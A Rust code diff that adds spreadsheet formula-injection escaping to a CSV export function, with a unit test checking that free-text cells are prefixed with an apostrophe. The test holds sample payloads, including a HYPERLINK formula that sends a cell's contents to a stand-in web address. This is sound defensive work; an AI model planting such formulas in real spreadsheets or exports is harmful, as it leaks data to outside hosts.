@@ -147,10 +147,37 @@ pub fn to_csv(rows: &[Row]) -> Result<String, String> {
         writer.write_record(COLUMNS).map_err(|e| e.to_string())?;
     }
     for row in rows {
-        writer.serialize(row).map_err(|e| e.to_string())?;
+        writer
+            .serialize(spreadsheet_safe(row))
+            .map_err(|e| e.to_string())?;
     }
     let bytes = writer.into_inner().map_err(|e| e.to_string())?;
     String::from_utf8(bytes).map_err(|e| e.to_string())
+}
+
+/// A row whose free-text cells cannot run as spreadsheet formulas.
+///
+/// Any member writes comment text, reasons, titles and their own display
+/// name; a spreadsheet that opens the table runs a cell starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return as a formula (which can fetch
+/// a web address carrying the sheet's data). Such a cell gets a leading
+/// `'`, which spreadsheets read as "this is text" (the OWASP advice). The
+/// JSON export and `community export-doc` keep the exact text.
+fn spreadsheet_safe(row: &Row) -> Row {
+    let mut row = row.clone();
+    for cell in [
+        &mut row.thread_title,
+        &mut row.draft_title,
+        &mut row.member,
+        &mut row.text,
+        &mut row.recorded_by,
+        &mut row.correction,
+    ] {
+        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            cell.insert(0, '\'');
+        }
+    }
+    row
 }
 
 #[cfg(test)]
@@ -185,5 +212,54 @@ mod tests {
         assert!(csv.contains("\"Views, first\""));
         assert!(csv.contains("\"We \"\"agree\"\",\nmostly.\""));
         assert_eq!(to_csv(&[]).unwrap_or_default(), COLUMNS.join(",") + "\n");
+    }
+
+    #[test]
+    fn free_text_never_runs_as_a_spreadsheet_formula() {
+        let row = |text: &str, member: &str| Row {
+            kind: "comment",
+            response: "r1".into(),
+            thread: "t1".into(),
+            thread_title: "=1+1".into(),
+            draft: String::new(),
+            draft_title: String::new(),
+            id: "c1".into(),
+            reply_to: String::new(),
+            member_id: "ab".into(),
+            member: member.into(),
+            stance: String::new(),
+            stale: String::new(),
+            text: text.into(),
+            words: 1,
+            at: "2026-11-29T10:00:00Z".into(),
+            recorded_by: String::new(),
+            confirmed: String::new(),
+            correction: "@SUM(A1)".into(),
+        };
+        let rows = [
+            row("=HYPERLINK(\"http://x/?\"&A1)", "+Ana"),
+            row("-2+3", "@bo"),
+            row("\tx", "Cy"),
+            row("Plain, with = inside", "Di"),
+        ];
+        let csv = to_csv(&rows).unwrap_or_else(|e| panic!("{e}"));
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let read: Vec<csv::StringRecord> = reader.records().filter_map(Result::ok).collect();
+        assert_eq!(read.len(), 4);
+        let cell = |r: usize, c: &str| {
+            let i = COLUMNS.iter().position(|x| *x == c).unwrap_or(0);
+            read[r].get(i).unwrap_or("").to_string()
+        };
+        assert_eq!(cell(0, "text"), "'=HYPERLINK(\"http://x/?\"&A1)");
+        assert_eq!(cell(0, "member"), "'+Ana");
+        assert_eq!(cell(0, "thread_title"), "'=1+1");
+        assert_eq!(cell(0, "correction"), "'@SUM(A1)");
+        assert_eq!(cell(1, "text"), "'-2+3");
+        assert_eq!(cell(1, "member"), "'@bo");
+        assert_eq!(cell(2, "text"), "'\tx");
+        assert_eq!(cell(3, "text"), "Plain, with = inside");
+        assert_eq!(cell(3, "member"), "Di");
+        // Ids, times and counts are never touched.
+        assert_eq!(cell(0, "at"), "2026-11-29T10:00:00Z");
     }
 }
